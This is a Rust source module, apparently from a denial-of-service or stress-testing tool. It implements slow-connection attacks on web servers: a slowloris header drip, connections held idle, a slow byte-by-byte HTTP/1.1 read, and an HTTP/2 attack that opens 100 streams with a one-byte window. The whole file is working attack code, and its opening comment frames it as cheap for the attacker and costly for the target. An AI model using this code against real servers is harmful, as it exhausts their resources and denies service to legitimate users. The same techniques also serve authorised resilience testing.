//! Scripts that hold connections: a target pays for each, and they cost an attacker nothing.

use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::sleep;

use super::context::Context;
use super::dial::{Link, Speaks};
use super::flood::read_frames;
use super::frame::{self, PREFACE, flag, kind, setting, write_settings};

/// Between two lines of a header: less than any timer between two reads.
const DRIP: Duration = Duration::from_secs(1);
/// Between two bytes of an answer.
const SIP: Duration = Duration::from_millis(100);
/// The kernel makes the least of it that it can, some kilobytes.
const RECEIVE_BYTES: u32 = 1_024;
/// Streams of one connection that wait for a window; servers allow 100 or more.
const STREAMS: u32 = 100;

/// A request whose header never ends.
pub(super) async fn slowloris(context: &Context) {
    let Some((mut link, _open)) = context.open(Speaks::Http1, None).await else { return };
    // The host first: a proxy is to know whose connection this is.
    let first = format!("GET {} HTTP/1.1\r\nHost: {}\r\n", context.path, context.host);
    if !send(context, &mut link, first.as_bytes()).await {
        return;
    }
    loop {
        tokio::select! {
            () = heard_the_end(context, &mut link) => return,
            () = sleep(DRIP) => {}
        }
        if !send(context, &mut link, b"X-Slow: loris\r\n").await {
            return;
        }
    }
}

/// Nothing at all, not even a handshake.
pub(super) async fn idle(context: &Context) {
    let Some((mut link, _open)) = context.open_tcp().await else { return };
    context.note(|tally| tally.attempts += 1);
    heard_the_end(context, &mut link).await;
}

/// An answer that nearly nobody reads.
pub(super) async fn slow_read(context: &Context, is_http2: bool) {
    if is_http2 { slow_windows(context).await } else { slow_socket(context).await }
}

/// HTTP/1.1: the socket's buffers are full, and stay so.
async fn slow_socket(context: &Context) {
    let Some((mut link, _open)) = context.open(Speaks::Http1, Some(RECEIVE_BYTES)).await else { return };
    let request = format!("GET {} HTTP/1.1\r\nHost: {}\r\n\r\n", context.path, context.host);
    if !send(context, &mut link, request.as_bytes()).await {
        return;
    }
    let mut head = Vec::with_capacity(STATUS_BYTES);
    loop {
        let mut byte = [0];
        match link.read(&mut byte).await {
            Ok(0) | Err(_) => {
                context.note(|tally| tally.closed_by_target += 1);
                return;
            }
            Ok(_) if head.len() < STATUS_BYTES => {
                head.extend_from_slice(&byte);
                note_status(context, &head);
            }
            Ok(_) => {}
        }
        sleep(SIP).await;
    }
}

/// HTTP/2: everything is read, but streams have a window of one byte that never grows.
async fn slow_windows(context: &Context) {
    let Some((link, _open)) = context.open(Speaks::Http2, None).await else { return };
    let (reader, mut writer) = tokio::io::split(link);
    let block = context.request("GET").block();
    let mut out = PREFACE.to_vec();
    write_settings(&mut out, &[(setting::HEADER_TABLE_SIZE, 0), (setting::INITIAL_WINDOW_SIZE, 1)]);
    for number in 0..STREAMS {
        frame::write(&mut out, kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, 2 * number + 1, &block);
    }
    let sent = writer.write_all(&out).await.is_ok() && writer.flush().await.is_ok();
    if sent {
        context.note(|tally| {
            tally.attempts += u64::from(STREAMS);
            tally.bytes_sent += out.len() as u64;
        });
        read_frames(context, reader).await;
    }
    context.note(|tally| tally.closed_by_target += 1);
}

/// Bytes of `HTTP/1.1 200`.
const STATUS_BYTES: usize = 12;

/// Sends and counts; false if the target has closed.
async fn send(context: &Context, link: &mut Link, bytes: &[u8]) -> bool {
    let sent = link.write_all(bytes).await.is_ok() && link.flush().await.is_ok();
    context.note(|tally| {
        if sent {
            tally.attempts += 1;
            tally.bytes_sent += bytes.len() as u64;
        } else {
            tally.closed_by_target += 1;
        }
    });
    sent
}

/// Reads until the target closes, and counts that and the status it may have sent.
async fn heard_the_end(context: &Context, link: &mut (impl AsyncRead + Unpin)) {
    let mut buffer = [0; 512];
    let mut head = Vec::new();
    loop {
        match link.read(&mut buffer).await {
            Ok(0) | Err(_) => break,
            Ok(length) if head.len() < STATUS_BYTES => {
                head.extend(buffer[..length].iter().take(STATUS_BYTES - head.len()));
                note_status(context, &head);
            }
            Ok(_) => {}
        }
    }
    context.note(|tally| tally.closed_by_target += 1);
}

/// Counts the status when the head has just become long enough to say it.
fn note_status(context: &Context, head: &[u8]) {
    let digits = head.strip_prefix(b"HTTP/1.1 ").filter(|digits| digits.len() == 3);
    if let Some(status) = digits.and_then(|digits| std::str::from_utf8(digits).ok()?.parse().ok()) {
        context.note(|tally| tally.status(status));
    }
}
